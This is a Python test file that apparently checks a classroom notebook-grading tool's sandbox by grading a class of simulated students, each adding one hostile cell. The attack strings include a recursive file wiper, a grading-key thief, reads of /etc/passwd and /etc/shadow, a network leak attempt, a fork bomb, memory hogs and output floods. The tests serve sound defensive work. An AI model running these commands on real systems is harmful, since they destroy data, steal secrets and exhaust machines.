"""A class of hostile and awkward submissions, graded once with real nbgrader in real sandboxes.

Every student answers the fixture exercise correctly (9 points) and adds one attack, or
one honest oddity, in a cell of their own. Each attack must either leave the student
exactly their honest 9 points or be flagged with a reason that names what it tried; no
file of the teacher's may change, no key may reach student code, every student keeps a
row. The whole class is graded in one run (module-scoped fixture); the tests read its
real outputs.
"""

from __future__ import annotations

import csv
import hashlib
import json
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sourcewise.teacher.grade import GradeRun, grade_class
from sourcewise.teacher.results import SubmissionResult
from sourcewise.teacher.sandbox import read_only_paths, start_sandbox
from sourcewise.teacher.synthetic import answer_sources, fill, read_notebook

sys.path.insert(0, str(Path(__file__).parent))
from test_teacher_grade import ASSIGNMENT, FIXTURE, FULL, _release  # noqa: E402

TIMEOUT = 20
"""Seconds per cell for this class (the fixture course's 8 s is tight on a loaded machine)."""

KEY_MARK = '"P3": ["confirmation", "sourced_claim"]'
"""A piece of the fixture's q1 key that no release, answer or library file contains."""


def _bwrap_works(tmp: Path) -> str:
    box = start_sandbox("auto", tmp, [FIXTURE], 8)
    return "" if box.isolated else box.note


def _attacks(paths: dict[str, str]) -> dict[str, str]:
    """The attack cells, by student. ``paths`` are the real places an attacker would aim at."""
    return {
        "wiper": f"""
import os, shutil
targets = [os.path.expanduser("~"), "/", "..", "../..", {paths['klass']!r}, {paths['out']!r}, {paths['course']!r}, "/tmp"]
for top in targets:
    for folder, dirs, files in os.walk(top, topdown=False):
        for name in files:
            try:
                os.remove(os.path.join(folder, name))
            except OSError:
                pass
        for name in ("grades.csv", "pwned.txt"):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write("wiped")
            except OSError:
                pass
""",
        "key_thief": f"""
import os
found = []
def look(code, *rest):
    if "grade_" in str(code):
        found.append(str(code))
get_ipython().events.register("pre_run_cell", lambda info: look(info.raw_cell))
import sourcewise.exercise
for name in ("grade_labels", "grade_spans", "grade_choices", "grade_function"):
    original = getattr(sourcewise.exercise, name)
    setattr(sourcewise.exercise, name, lambda answer, key, *a, _o=original, **k: (found.append(repr(key)), 0)[1])
for top in ["/", os.path.expanduser("~"), {paths['course']!r}]:
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr")) or "python3" in folder:
            dirs[:] = []
            continue
        for name in files:
            if name.endswith((".ipynb", ".db", ".json")):
                try:
                    text = open(os.path.join(folder, name), errors="replace").read()
                except OSError:
                    continue
                if "BEGIN HIDDEN TESTS" in text and "grade_labels(q1" in text:
                    found.append(text)
""",
        "snoop": f"""
import os
tried = {{path: os.path.exists(path) for path in [{paths['course']!r} + "/solutions", {paths['klass']!r},
          {paths['out']!r}, {paths['course']!r} + "/nbgrader_config.py", "/etc/passwd", "/etc/shadow"]}}
print("SNOOP", sorted(path for path, seen in tried.items() if seen))
print("HOME", sorted(os.listdir({paths['home']!r})) if os.path.isdir({paths['home']!r}) else [])
""",
        "network": f"""
import socket
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, {paths['port']}), timeout=2).send(b"leak")
        print("NETWORK OPEN", host)
    except OSError as error:
        print("NETWORK CLOSED", host, type(error).__name__)
""",
        "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
        "memory_hog": "hog = bytearray(20 * 1024 ** 3)",
        "memory_spread": """
import subprocess, sys, time
hold = "import sys, time; x = bytearray(700 * 1024 ** 2); print(1, flush=True); time.sleep(120)"
workers = [subprocess.Popen([sys.executable, "-c", hold], stdout=subprocess.PIPE) for _ in range(4)]
for worker in workers:
    worker.stdout.read(1)  # each holds its 700 MB now: 2.8 GB in all
time.sleep(60)
""",
        "flood_once": 'print("x" * 500_000_000)',
        "flood_loop": 'for _ in range(200_000):\n    print("y" * 1000)',
        # past print's cap: messages of its own on the kernel's output socket
        "flood_raw": "kernel = get_ipython().kernel\nfor _ in range(3000):\n    kernel.session.send(kernel.iopub_socket, "
                     "'stream', {'name': 'stdout', 'text': 'z' * 10000}, parent=kernel.get_parent())",
        "ignores_timeout": "import time\nwhile True:\n    try:\n        time.sleep(1)\n    except BaseException:\n        pass",
        "kernel_killer": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
        "slow_function": "import time\ndef cue_kind(text):\n    time.sleep(100)\n    return 'sourced_claim'",
    }


ODDITIES = {
    "Zoë Müller-Ağaoğlu": "",
    "stderr_warning": 'import sys, warnings\nprint("just a note", file=sys.stderr)\nwarnings.warn("a warning")',
}


def _student(release: dict[str, Any], right: dict[str, str], extra: str) -> dict[str, Any]:
    notebook = fill(release, right)
    if extra:
        cell = {"cell_type": "code", "execution_count": None, "id": "attack", "metadata": {}, "outputs": [],
                "source": extra.strip()}
        # after the answers, before the tests that grade them: cells run in order
        index = next(i for i, c in enumerate(notebook["cells"])
                     if c["metadata"].get("nbgrader", {}).get("grade_id") == "q4_answer") + 1
        notebook["cells"].insert(index, cell)
    return notebook


def _write(path: Path, notebook: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(notebook, indent=1, ensure_ascii=False), encoding="utf-8")


def _digest(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


class _Listener:
    """A local port that counts connections: no sandboxed notebook may reach it."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    base = tmp_path_factory.mktemp("attacks")
    problem = _bwrap_works(base / "probe")
    if problem:  # `make test` installs bubblewrap; a machine that cannot run it fails here, loudly
        pytest.fail(f"no sandbox on this machine, so the attacks cannot be tried: {problem}")
    course = base / "course"
    import shutil

    shutil.copytree(FIXTURE, course)
    release = _release(course)
    right = answer_sources(read_notebook(course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"))
    klass, out = base / "class", base / "grading"
    listener = _Listener()
    paths = {"klass": str(klass), "out": str(out), "course": str(course), "port": str(listener.port),
             "home": str(Path.home())}
    students = {**_attacks(paths), **ODDITIES}
    for student, extra in students.items():
        notebook = _student(release, right, extra)
        if student == "slow_function":
            notebook = fill(release, {**right, "q4_answer": extra.strip()})
        _write(klass / student / f"{ASSIGNMENT}.ipynb", notebook)
    evil = _student(release, right, "")
    evil["metadata"]["kernelspec"] = {"name": "no-such-kernel", "display_name": "Evil", "language": "python"}
    _write(klass / "no_such_kernel" / f"{ASSIGNMENT}.ipynb", evil)
    saved = _student(release, right, "")
    for cell in saved["cells"]:
        if cell["cell_type"] == "code":
            cell["execution_count"] = 1
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "from the student's own run\n"}]
    _write(klass / "saved_with_outputs" / f"{ASSIGNMENT}.ipynb", saved)
    old = _student(release, right, "")
    old["nbformat_minor"] = 4
    for cell in old["cells"]:
        cell.pop("id", None)
    _write(klass / "old_nbformat" / f"{ASSIGNMENT}.ipynb", old)
    before = {"class": _digest(klass), "course": _digest(course)}
    # a cell timeout long enough that the limits, not the timeout, stop each attack on a busy machine
    run = grade_class(klass, course, out, workers=3, timeout=TIMEOUT, sandbox="required")
    listener.close()
    yield {"run": run, "by": {r.student: r for r in run.results}, "before": before, "klass": klass,
           "course": course, "out": out, "connections": listener.connections, "students": set(students)}


def _result(attacked: dict[str, Any], student: str) -> SubmissionResult:
    result: SubmissionResult = attacked["by"][student]
    return result


def _attention(attacked: dict[str, Any], student: str) -> str:
    return "; ".join(_result(attacked, student).needs_attention)


def _outputs(attacked: dict[str, Any], student: str) -> str:
    """Everything the student's notebook printed while it was graded."""
    path = attacked["out"] / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
    return "".join(json.dumps(c.get("outputs", [])) for c in cells if c["cell_type"] == "code"
                   and c.get("metadata", {}).get("nbgrader", {}).get("grade") is not True)


def test_the_run_says_it_is_sandboxed(attacked: dict[str, Any]) -> None:
    run: GradeRun = attacked["run"]
    assert run.notes[0].startswith("sandbox: bubblewrap")
    page = (attacked["out"] / "class_report.html").read_text(encoding="utf-8")
    assert "sandbox: bubblewrap" in page


def test_no_file_of_the_teacher_changes(attacked: dict[str, Any]) -> None:
    assert _digest(attacked["klass"]) == attacked["before"]["class"]
    assert _digest(attacked["course"]) == attacked["before"]["course"]
    written = _digest(attacked["out"])
    assert not [p for p in written if p.endswith("pwned.txt")]
    with (attacked["out"] / "grades.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["student"] for r in rows) == sorted(attacked["by"])


def test_every_student_keeps_a_row(attacked: dict[str, Any]) -> None:
    expected = attacked["students"] | {"no_such_kernel", "saved_with_outputs", "old_nbformat"}
    assert set(attacked["by"]) == expected


def test_the_wiper_destroys_nothing_and_keeps_its_points(attacked: dict[str, Any]) -> None:
    assert _result(attacked, "wiper").score == FULL


def test_no_key_reaches_student_code(attacked: dict[str, Any]) -> None:
    thief = _result(attacked, "key_thief")
    assert thief.score == FULL  # its own, honest answers: stealing gained nothing
    found = _outputs(attacked, "key_thief")
    assert KEY_MARK not in found and "grade_labels(q1" not in found
    assert "changes the course's code" in _attention(attacked, "key_thief")


def test_files_outside_its_folder_are_invisible(attacked: dict[str, Any]) -> None:
    printed = _outputs(attacked, "snoop")
    assert "SNOOP []" in printed
    # of the teacher's home, only the way to a Python installation kept there (pyenv) shows
    home = Path.home()
    passage = sorted({p.relative_to(home).parts[0] for p in read_only_paths() if home in p.parents})
    assert f"HOME {passage}" in printed
    assert _result(attacked, "snoop").score == FULL


def test_no_network(attacked: dict[str, Any]) -> None:
    printed = _outputs(attacked, "network")
    assert "NETWORK OPEN" not in printed and printed.count("NETWORK CLOSED") == 2
    assert attacked["connections"] == 0


@pytest.mark.parametrize(("student", "reason"), [
    ("fork_bomb", "started more than 8 processes (a fork bomb?): its kernel was stopped (in cell 14)"),
    ("memory_hog", "ran out of memory in cell 14 (the limit is 2048 MB)"),
    ("memory_spread", "used more than 2048 MB of memory: its kernel was stopped (in cell 14)"),
    ("flood_once", "printed more than 4 MB of output in cell 14 (the rest was not kept)"),
    ("flood_loop", "printed more than 4 MB of output in cell 14 (the rest was not kept)"),
    ("flood_raw", "sent more than 8 MB of output (in cell 14): its kernel was stopped"),
    ("ignores_timeout", "cell 14 did not stop when its time was up (does it catch the interrupt?)"),
    ("kernel_killer", "its kernel stopped while running cell 14 (killed by signal 9): the notebook ended or killed it"),
    ("slow_function", "cue_kind ran over 3 s on 2 hidden inputs in q4_test"),
])
def test_each_attack_is_flagged_by_name(attacked: dict[str, Any], student: str, reason: str) -> None:
    assert reason in _attention(attacked, student)


def test_a_slow_graded_function_costs_only_its_question(attacked: dict[str, Any]) -> None:
    points = {q.grade_id: q.points for q in _result(attacked, "slow_function").questions}
    assert points == {"q1_test": 3.0, "q2_test": 2.0, "q3_test": 2.0, "q4_test": 0.0}


def test_a_memory_error_costs_nothing_else(attacked: dict[str, Any]) -> None:
    assert _result(attacked, "memory_hog").score == FULL


@pytest.mark.parametrize("student", ["Zoë Müller-Ağaoğlu", "stderr_warning", "saved_with_outputs",
                                     "old_nbformat", "no_such_kernel"])
def test_honest_oddities_get_full_marks_and_no_flag(attacked: dict[str, Any], student: str) -> None:
    result = _result(attacked, student)
    assert (result.score, result.needs_attention) == (FULL, ())
